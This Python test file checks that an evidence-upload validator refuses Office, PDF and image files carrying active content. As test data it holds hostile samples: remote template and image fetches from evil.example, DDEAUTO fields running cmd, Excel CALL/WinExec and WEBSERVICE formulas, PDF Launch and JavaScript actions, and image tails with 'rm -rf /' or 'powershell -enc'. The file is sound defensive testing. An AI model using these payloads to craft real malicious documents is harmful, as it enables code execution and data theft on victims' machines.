"""What would act, fetch or hide inside an allowed kind of file is refused, however written."""

import io
import struct
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from services.evidence.piece.media import DOCX, JPEG, MP4, PDF, PNG, XLSX
from tests.unit.evidence import attacks, files, office
from tests.unit.evidence.checks.test_checks import code_of, look
from tests.unit.evidence.office import OPEN, SHEET, WORD, field, formula, relation, relations, xml

IMAGE_FROM_AFAR = "<image href='http://evil.example/'/>"
STYLE = "<style>@import 'http://evil.example/';</style>"
COMPOUND = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
RUNS = "application/vnd.ms-office.vbaProject"
REFUSALS = ("macro", "embedded", "type-mismatch", "unreadable", "broken-image")
FAR = "http://evil.example/t.dotm"


def refused(data, media_type=DOCX):
    return code_of(data, media_type) in REFUSALS


class TestRelations:
    @pytest.mark.parametrize(
        "kind",
        [
            *("attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk", "image"),
            *("externalLinkPath", "package", "video", "audio", "mailMergeSource", "customXml"),
            *("transform", "font", "header", "control", "chart", "officeDocument", "hyperLink2"),
        ],
    )
    def test_nothing_but_a_hyperlink_may_lead_outside(self, kind):
        assert refused(office.document(rels=relations(relation(kind, FAR, external=True))))

    @pytest.mark.parametrize(
        "target",
        [
            *("file:///C:/Windows/System32/cmd.exe", "\\\\evil\\share\\x", "//evil/share/x"),
            *("javascript:alert(1)", "ms-msdt:/id", "mhtml:http://evil!x-usc:http://evil", "x.exe"),
            *("search-ms:query=a", "ftp://evil/x", "http:\\\\evil\\x", "vbscript:x"),
        ],
    )
    def test_a_hyperlink_leads_to_a_page_or_a_mailbox_only(self, target):
        rels = relations(relation("hyperlink", target, external=True))
        assert code_of(office.document(rels=rels), DOCX) == "embedded"

    @pytest.mark.parametrize(
        "kind",
        [
            *("attachedTemplate", "oleObject", "package", "vbaProject", "aFChunk", "subDocument"),
            *("control", "activeXControlBinary", "connections", "externalLink", "xlMacrosheet"),
            *("ui/extensibility", "webextensiontaskpanes", "keyMapCustomizations", "mailMergeData"),
        ],
    )
    def test_an_inner_relation_of_a_kind_that_acts_is_refused_too(self, kind):
        assert refused(office.document(rels=relations(relation(kind, "part.xml"))))

    @pytest.mark.parametrize(
        "target", [FAR, "file:///x", "\\\\evil\\x", "//evil/x", "ht%74p%3A//e"]
    )
    def test_an_inner_relation_stays_inside(self, target):
        assert refused(office.document(rels=relations(relation("image", target))))

    @pytest.mark.parametrize(
        "way",
        [
            lambda text: text.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
            lambda text: text.replace(b"External", b"&#69;xternal"),
            lambda text: text.replace(b"attachedTemplate", b"attached&#x54;emplate"),
            lambda text: text.replace(b"Relationship ", b"p:Relationship ").replace(
                b"xmlns=", b"xmlns:p="
            ),
            lambda text: text.replace(b"<Relationship ", b"<Relationship\n\t"),
            lambda text: text.replace(b'"External"', b"'External'"),
            lambda text: text.replace(office.RELATION.encode(), b"http://purl.oclc.org/ooxml/"),
            lambda text: text.replace(b"<Relationship ", b"<!-- > -->\n<Relationship "),
            lambda text: text.replace(b"UTF-8", b"ISO-8859-1"),
            lambda text: text.replace(b"UTF-8", b"windows-1252"),
            lambda text: b"<?xml version='1.0' encoding='IBM037'?>".decode().encode("cp037") + text,
            lambda text: text.decode().encode("utf-16-le"),
            lambda text: text.decode().encode("utf-7"),
            lambda text: text.replace(b"standalone", b"?><!DOCTYPE x [<!ENTITY e 'a'>]><?x"),
        ],
    )
    def test_a_template_from_afar_is_found_however_its_relation_is_written(self, way):
        rels = relations(relation("attachedTemplate", FAR, external=True))
        assert refused(office.document(rels=way(rels)))

    def test_relations_are_looked_at_wherever_they_stand(self):
        rels = relations(relation("oleObject", FAR, external=True))
        parts = {"word/anything.xml": ("application/xml", rels)}
        assert refused(office.document(parts))


class TestParts:
    @pytest.mark.parametrize(
        ("name", "kind", "content"),
        [
            ("word/vbaProject.bin", RUNS, COMPOUND),
            ("word/media/image1.png", "image/png", COMPOUND),
            ("word/media/image1.png", "image/png", b"MZ" + bytes(500)),
            ("word/media/image1.jpeg", "image/jpeg", files.docx()),
            ("word/media/image1.jpeg", "image/jpeg", files.jpeg(9, 9) + b" MZ" + bytes(99)),
            ("word/media/image1.png", "image/png", files.png() + b"\0" + COMPOUND),
            ("word/media/image1.emf", "image/x-emf", b"\1\0\0\0" + b"MZ" * 200),
            ("word/media/image1.gif", "image/gif", b"GIF89a" + bytes(20) + b"MZ"),
            ("word/harmless.xml", "application/xml", COMPOUND),
            ("word/harmless.xml", "application/xml", b"{\\rtf1 hello}"),
            ("word/harmless.xml", "application/xml", b"<html><body/></html>"),
            ("word/chunk.htm", "text/html", b"<html/>"),
            ("word/chunk.xhtml", "application/xhtml+xml", b"<html/>"),
            ("word/chunk.rtf", "application/rtf", b"{\\rtf1}"),
            ("word/embeddings/a.docx", "application/octet-stream", files.docx()),
            ("word/embeddings/b.xlsx", "application/vnd.openxmlformats-package", files.xlsx()),
            ("word/embeddings/c.bin", OPEN + "oleObject", COMPOUND),
            ("word/activeX/a.xml", "application/vnd.ms-office.activeX+xml", b"<ax:ocx/>"),
            ("customUI/customUI.xml", "application/vnd.ms-office.customUI+xml", b"<customUI/>"),
            ("word/printer.bin", SHEET + "printerSettings", COMPOUND),
            ("word/printer.bin", SHEET + "printerSettings", b" \n<HTML><script>"),
            ("word/fonts/font1.odttf", OPEN + "obfuscatedFont", bytes(64) + b"MZ" + bytes(2000)),
            ("word/nothing", "", b"anything"),
        ],
    )
    def test_a_part_is_what_its_kind_says_and_its_kind_is_allowed(self, name, kind, content):
        assert refused(office.document({name: (kind, content)}))

    def test_a_macro_sheet_called_a_worksheet_is_refused(self):
        sheet = xml(
            '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
        )
        assert refused(
            office.workbook({"xl/worksheets/s2.xml": (SHEET + "worksheet+xml", sheet)}), XLSX
        )

    def test_a_workbook_that_asks_other_sources_is_refused(self):
        link = xml("<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")
        for kind in ("externalLink+xml", "connections+xml", "queryTable+xml"):
            part = {"xl/externalLinks/l1.xml": (SHEET + kind, link)}
            assert refused(office.workbook(part), XLSX)

    @pytest.mark.parametrize(
        "inside",
        [
            "<w:altChunk r:id='r1'/>",
            "<w:subDoc r:id='r1'/>",
            "<w:pict><o:OLEObject Type='Embed' ProgID='Package'/></w:pict>",
            "<z:altChunk xmlns:z='http://purl.oclc.org/ooxml/wordprocessingml/main'/>",
            "<w:pict><v:shape><v:imagedata src='http://evil.example/x.png'/></v:shape></w:pict>",
            "<w:pict><v:shape href='file://evil/x.exe'/></w:pict>",
            "<w:pict><v:imagedata o:href='http://evil.example/x.png'/></w:pict>",
            "<w:pict><v:fill o:althref='http://evil.example/x.png'/></w:pict>",
            "<w:background><v:background><v:fill src='//evil/x'/></v:background></w:background>",
            "<webVideoPr embeddedHtml='&lt;iframe src=x&gt;'/>",
            "<w:pict><v:shape><x:ClientData><x:FmlaMacro>[0]!Go</x:FmlaMacro></x:ClientData>"
            "</v:shape></w:pict>",
            "<a:sp macro='[0]!Go'/>",
            "<a:hlinkClick action='ppaction://program'/>",
            "<script>alert(1)</script>",
        ],
    )
    def test_markup_that_brings_in_or_runs_something_is_refused(self, inside):
        assert refused(office.document(body=office.word(inside)))

    def test_a_drawing_that_acts_is_refused(self):
        for inside in ("<script/>", "<rect onload='x()'/>", IMAGE_FROM_AFAR, STYLE):
            svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>".encode()
            assert refused(office.document({"word/media/i.svg": ("image/svg+xml", svg)}))
        plain = b"<svg xmlns='http://www.w3.org/2000/svg'><rect width='3'/></svg>"
        assert look(office.document({"word/media/i.svg": ("image/svg+xml", plain)}), DOCX)


class TestFields:
    @pytest.mark.parametrize(
        "inside",
        [
            field('DDE "cmd" "/c calc"'),
            field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
            field("DD", "EAU", "TO cmd"),
            field(" ddeauto cmd"),
            field('INCLUDEPICTURE "http://evil.example/x.png"'),
            field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"'),
            field("LINK Excel.Sheet.8 c:\\\\x.xls"),
            field('IMPORT "http://evil.example"'),
            field("MACROBUTTON Go 点这里"),
            field("DATABASE \\d x"),
            field("EMBED Package"),
            field("RD other.docx"),
            field('HYPERLINK "file:///c:/windows/system32/calc.exe"'),
            field('HYPERLINK \\l "here" "\\\\\\\\evil\\\\share"'),
            field("&#68;DEAUTO cmd"),
            "<w:fldSimple w:instr=' DDEAUTO cmd '/>",
            "<w:fldSimple w:instr=' INCLUDEPICTURE &quot;http://evil.example/&quot; '/>",
            "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
            "<w:r><w:fldChar w:fldCharType='begin'/><w:delInstrText>DDE x</w:delInstrText></w:r>",
            # The name of the outer field is worked out by the inner one.
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
            + field("QUOTE 68 68 69 65 85 84 79")
            + "<w:r><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType='end'/></w:r>",
            # Within another one's result.
            field("IF 1 = 1", inner=field("DDE cmd")),
        ],
    )
    def test_a_field_that_fetches_or_runs_is_refused(self, inside):
        assert refused(office.document(body=office.word(f"<w:p>{inside}</w:p>")))

    @pytest.mark.parametrize("kind", ["header+xml", "footer+xml", "footnotes+xml", "comments+xml"])
    def test_a_field_is_found_in_every_part(self, kind):
        part = xml(f"<w:hdr {office.NAMES}><w:p>{field('DDEAUTO cmd')}</w:p></w:hdr>")
        assert refused(office.document({"word/other.xml": (WORD + kind, part)}))

    @pytest.mark.parametrize(
        "text",
        [
            "cmd|'/c calc'!A0",
            "SUM(1)+MSEXCEL|'\\..\\..\\cmd'!A1",
            "[1]Sheet1!A1",
            "'[b.xlsx]Sheet1'!A1",
            "'C:\\x\\[b.xlsx]一'!A1",
            "'http://evil.example/[b.xlsx]S'!A1",
            'WEBSERVICE("http://evil.example/"&amp;A1)',
            '_xlfn.WEBSERVICE("http://evil.example/")',
            'CALL("kernel32","WinExec","JCJ","calc",0)',
            'RTD("a","b","c")',
            'REGISTER.ID ("a","b")',
            '_xll.Run("x")',
            'HYPERLINK("file://evil/x.exe","点")',
            '_xlfn.IMAGE("http://evil.example/x.png")',
            'EXEC("calc")',
        ],
    )
    def test_a_formula_that_reaches_out_of_the_workbook_is_refused(self, text):
        assert refused(office.workbook(cells=formula(text)), XLSX)

    @pytest.mark.parametrize(
        "name",
        [
            '<definedName name="_xlnm.Auto_Open">点位!$A$1</definedName>',
            '<definedName name="Auto_Close">点位!$A$1</definedName>',
            '<definedName name="x" function="1" vbProcedure="1">x</definedName>',
            '<definedName name="x" xlm="1">x</definedName>',
            '<definedName name="x">GET.WORKBOOK(1)</definedName>',
            "<definedName name=\"x\">cmd|'/c calc'!A0</definedName>",
        ],
    )
    def test_a_name_that_runs_is_refused(self, name):
        book = f"<definedNames>{name}</definedNames>"
        assert refused(office.workbook(book=book), XLSX)


def pdf_with(**catalog):
    return files.pdf(**catalog)


def page_with(**entries):
    out = io.BytesIO()
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842))
    for name, value in entries.items():
        page.obj[f"/{name}"] = value
    document.save(out)
    return out.getvalue()


def annotation(subtype="/Link", **entries):
    return page_with(
        Annots=Array(
            [
                Dictionary(
                    Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]), **entries
                )
            ]
        )
    )


class TestPdf:
    @pytest.mark.parametrize(
        "action",
        [
            Dictionary(S=Name.Launch, F="cmd.exe"),
            Dictionary(S=Name.JavaScript),
            Dictionary(S=Name.SubmitForm, F="https://evil.example"),
            Dictionary(S=Name.ImportData, F="x.fdf"),
            Dictionary(S=Name.GoToR, F="other.pdf", D=Array([0])),
            Dictionary(S=Name.GoToE, D=Array([0])),
            Dictionary(S=Name.Rendition),
            Dictionary(S=Name.Movie),
            Dictionary(S=Name.Sound),
            Dictionary(S=Name.Hide),
            Dictionary(S=Name.RichMediaExecute),
            Dictionary(S=Name.Named, N=Name.Print),
            Dictionary(S=Name.OwnInvention),
            Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
            Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
            Dictionary(S=Name.URI, URI=String("\\\\evil\\share")),
            Dictionary(S=Name.GoTo, D=Array([0]), Next=Dictionary(S=Name.Launch, F="x")),
        ],
    )
    def test_a_click_may_only_turn_pages_or_open_a_web_page(self, action):
        assert code_of(annotation(A=action), PDF) in ("macro", "embedded")

    def test_opening_may_do_nothing_but_show_a_place(self):
        assert code_of(pdf_with(OpenAction=Dictionary(S=Name.URI, URI="http://x")), PDF) == "macro"
        assert code_of(pdf_with(OpenAction=Dictionary()), PDF) == "macro"
        assert look(pdf_with(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))), PDF)
        assert look(pdf_with(OpenAction=Array([0, Name.Fit])), PDF)

    def test_what_is_done_on_events_is_refused(self):
        assert code_of(pdf_with(AA=Dictionary(WC=Dictionary(S=Name.GoTo))), PDF) == "macro"
        assert code_of(page_with(AA=Dictionary()), PDF) == "macro"

    @pytest.mark.parametrize(
        "subtype", ["/FileAttachment", "/Movie", "/Sound", "/Screen", "/RichMedia", "/3D", "/New"]
    )
    def test_an_annotation_that_plays_or_carries_something_is_refused(self, subtype):
        assert code_of(annotation(subtype), PDF) == "macro"

    def test_a_program_attached_is_refused(self):
        out = io.BytesIO()
        document = pikepdf.new()
        document.add_blank_page()
        document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        assert code_of(out.getvalue(), PDF) == "embedded"

    def test_a_portfolio_and_a_form_of_its_own_language_are_refused(self):
        assert code_of(pdf_with(Collection=Dictionary()), PDF) == "embedded"
        assert code_of(pdf_with(AcroForm=Dictionary(XFA=Array([]))), PDF) == "macro"

    @pytest.mark.parametrize("tail", [b"MZ" + bytes(99), b" <script>", b"\0\0PK", b"#!/bin/sh\n"])
    def test_something_behind_the_end_is_refused(self, tail):
        assert code_of(files.pdf() + tail, PDF) == "type-mismatch"


class TestBehindAPicture:
    @pytest.mark.parametrize(
        "tail",
        [
            b" MZ" + bytes(99),
            b"\0" * 50 + b"MZ" + bytes(99),
            b"\n#!/bin/sh\nrm -rf /\n",
            b"@echo off\r\ncalc\r\n",
            b"  <html><script>1</script>",
            b"\x7fELF\x02\x01",
            COMPOUND,
            b"{\\rtf1}",
            b"powershell -enc AAAA",
            b'x{"a": 1} && calc',
            b"\0" * (100 * 1024),
            files.jpeg(9, 9) + b"MZ",
            files.mp4(600) + b"MZ",
            struct.pack(">I", 16) + b"ftypevil" + bytes(4),
            b"SEFH" + struct.pack("<II", 106, 0) + b"MZ......" + struct.pack("<I", 20) + b"SEFT",
        ],
    )
    def test_whatever_no_phone_writes_there_is_refused(self, tail):
        assert code_of(files.jpeg() + tail, JPEG) in ("type-mismatch", "unreadable", "broken-image")

    @pytest.mark.parametrize("tail", [b" a", b"\0<", b"MZ", files.jpeg(9, 9)])
    def test_nothing_but_padding_may_stand_behind_a_png(self, tail):
        assert code_of(files.png() + tail, PNG) == "type-mismatch"

    def test_a_program_within_a_pngs_pixels_is_refused(self):
        data = files.png()
        at = data.index(b"IDAT") - 4
        (length,) = struct.unpack_from(">I", data, at)
        more = files._chunk(b"IDAT", data[at + 8 : at + 8 + length] + b"MZ" + bytes(99))
        assert code_of(data[:at] + more + data[at + 12 + length :], PNG) == "type-mismatch"


class TestWhatParsersDieOf:
    def test_a_png_with_malformed_metadata_shows_and_says_nothing_of_itself(self):
        facts = look(attacks.png_of((b"eXIf", b"no exif at all")), PNG).facts
        assert (facts.width, facts.taken_at, facts.position, facts.camera) == (16, None, None, "")

    @pytest.mark.parametrize("length", [2**63, 2**64 - 1, 2**62, 15, 0])
    def test_a_box_of_an_impossible_size_is_unreadable(self, length):
        box = struct.pack(">I4sQ", 1, b"free", length)
        assert code_of(files.mp4(tail=box + bytes(8)), MP4) == "unreadable"

    def test_a_png_that_unpacks_to_other_than_its_size_is_refused(self):
        assert code_of(attacks.png_that_inflates(3 * 2**20), PNG) == "decompression-bomb"
        short = attacks.png_of().replace(zlib.compress(bytes(17 * 16)), zlib.compress(bytes(17)))
        assert code_of(short, PNG) == "broken-image"
